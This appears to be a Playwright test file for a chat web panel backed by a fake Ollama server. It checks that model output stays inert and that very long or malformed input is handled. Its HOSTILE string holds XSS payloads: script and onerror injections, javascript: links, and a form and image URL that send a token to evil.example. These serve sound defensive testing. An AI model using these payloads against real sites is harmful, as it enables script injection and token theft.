"""What a model writes is text: it runs nothing, calls nobody, and breaks nothing."""

import pytest
from playwright.async_api import expect

from tests.fakes.ollama import FakeOllama

from .conftest import CHAT, NewPanel, NewProgram
from .panel import Panel

pytestmark = pytest.mark.slow

HOSTILE = """<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 1"> <svg onload="window.pwned = 1"></svg>
<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>
<style>body { display: none }</style> <base href="http://evil.example/">
<form action="http://evil.example/"><input name="token"></form>

[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)
[entity](&#106;avascript:window.pwned=1) [vb](vbscript:x) <javascript:window.pwned=1>

![picture](http://evil.example/pixel.png) ![inline](data:image/svg+xml,<svg onload=alert(1)>)
![tracker](https://evil.example/?token=secret "title onerror=window.pwned=1")

[real](https://example.org/" onmouseover="window.pwned=1)

`<script>window.pwned = 1</script>`

```html
</code></pre><script>window.pwned = 1</script>
```

| <img src=x onerror=window.pwned=1> |
|---|
| <a href="javascript:window.pwned=1">x</a> |
"""


async def test_hostile_text_does_nothing_and_calls_nobody(panel: Panel, fake: FakeOllama) -> None:
    fake.misbehave(path="/api/chat", text=HOSTILE, thinking=HOSTILE)

    await panel.ask_and_hear(HOSTILE)
    await panel.answer.get_by_test_id("thinking").locator("summary").click()
    for link in await panel.text.locator("a").all():
        assert str(await link.get_attribute("href")).startswith(("http://", "https://", "mailto:"))
        assert await link.get_attribute("rel") == "noopener noreferrer"
    await panel.page.reload()
    await panel.ended("complete")

    strange = "script, img, svg:not(.icon svg), iframe, style, base, form, [onerror], [onload]"
    assert await panel.messages.locator(strange).count() == 0
    assert await panel.page.evaluate("window.pwned") is None
    assert [one["content"] for one in await panel.kept()][1] == HOSTILE


async def test_hostile_titles_and_snippets_stay_text(panel: Panel, fake: FakeOllama) -> None:
    fake.misbehave(path="/api/chat", text="<img src=x onerror='window.pwned = 1'> needle")
    await panel.ask_and_hear("<img src=x onerror='window.pwned = 1'> haystack")

    await panel.search.fill("needle")
    await expect(panel.rows.locator(".snippet mark")).to_have_text("needle")

    await expect(panel.rows.locator(".title")).to_contain_text("<img src=x")
    assert await panel.page.evaluate("window.pwned") is None


UNFINISHED = (
    "```python\nprint('never closed')",
    "~~~\n```\n~~~~\n```js\n",
    "**bold *and `code\n\n- [ ] task\n  - [x",
    "| a | b\n|---\n| 1",
    "\u202eright to left\u202c \u0000 \ufffd 👩‍👩‍👧‍👦 e\u0301",
    "> " * 300 + "deep",
    "[" * 400 + "x" + "]" * 400,
    "*a " * 500,
)


async def test_unfinished_markdown_is_shown_and_the_page_goes_on(
    panel: Panel, fake: FakeOllama
) -> None:
    for text in UNFINISHED:
        fake.misbehave(path="/api/chat", text=text, times=1)
        await panel.ask_and_hear("Why?")

    await panel.ask_and_hear("And now?")

    await expect(panel.text).to_contain_text("You asked: And now?")
    assert [one["content"] for one in (await panel.kept())[1:-1:2]] == list(UNFINISHED)


async def test_a_line_of_two_hundred_thousand_letters_is_shown(
    panel: Panel, fake: FakeOllama
) -> None:
    fake.misbehave(path="/api/chat", giant=200_000, times=1)

    await panel.ask_and_hear("Why?")

    assert await panel.text.evaluate("text => text.textContent.trim().length") == 200_000
    await panel.fits()
    await panel.ask_and_hear("And now?")


async def test_a_question_of_a_megabyte_is_kept_whole(panel: Panel) -> None:
    panel.watch.allow("status of 4")
    text = "Why does it string? " * 50_000

    await panel.composer.fill(text)
    await panel.composer.press("Enter")

    await expect(panel.questions).to_have_count(1, timeout=20_000)
    await expect(panel.questions.get_by_role("button", name="Show all")).to_be_visible()
    assert (await panel.kept())[0]["content"] == text.strip()


async def test_a_question_that_is_too_long_is_kept_and_said_to_be(panel: Panel) -> None:
    """No request is made for what the agent would refuse."""
    text = "🐙" + "y" * 2_000_000

    await panel.composer.fill(text)
    await panel.composer.press("Enter")

    await expect(panel.toast).to_contain_text("Not sent, the text is kept")
    await expect(panel.toast).to_contain_text(
        "The message has 2,000,001 characters, and at most 2,000,000 fit."
        " Shorten it, or send it in parts."
    )
    assert await panel.agent.get("/conversations") == {"items": [], "next_cursor": None}
    await panel.composer.fill(text[:-1])
    await panel.composer.press("Enter")
    await expect(panel.questions).to_have_count(1, timeout=20_000)


async def test_the_page_answers_while_twenty_thousand_tokens_come(
    new_program: NewProgram, new_panel: NewPanel
) -> None:
    async with FakeOllama(models=()) as fake:
        fake.add_model(CHAT)
        fake.full_speed(20_000, pace=2_500)
        panel = await new_panel(await new_program(fake.url))
        await panel.sign_in()
        await panel.ask("Tell me everything")
        await expect(panel.text).to_contain_text("word63")

        await panel.page.get_by_test_id("panel-menu").click()
        await panel.page.get_by_role("menuitem", name="Keyboard").click()
        await expect(panel.page.get_by_role("dialog", name="Keyboard")).to_be_visible()
        await expect(panel.answer).to_have_attribute("data-status", "streaming")
        await panel.page.keyboard.press("Escape")

        await panel.ended("complete", timeout=20)
        words = [f"word{number % 64}" for number in range(20_000)]
        assert (await panel.text.inner_text()).split() == words


async def test_a_draft_is_kept_over_a_reload_for_each_conversation(panel: Panel) -> None:
    await panel.ask_and_hear("First")
    await panel.composer.fill("Half a question")
    await panel.page.get_by_role("button", name="New chat").click()
    await expect(panel.composer).to_have_value("")
    await panel.composer.fill("Another half")

    await panel.page.reload()

    await expect(panel.composer).to_have_value("Another half")
    await panel.rows.locator("a").click()
    await expect(panel.composer).to_have_value("Half a question")
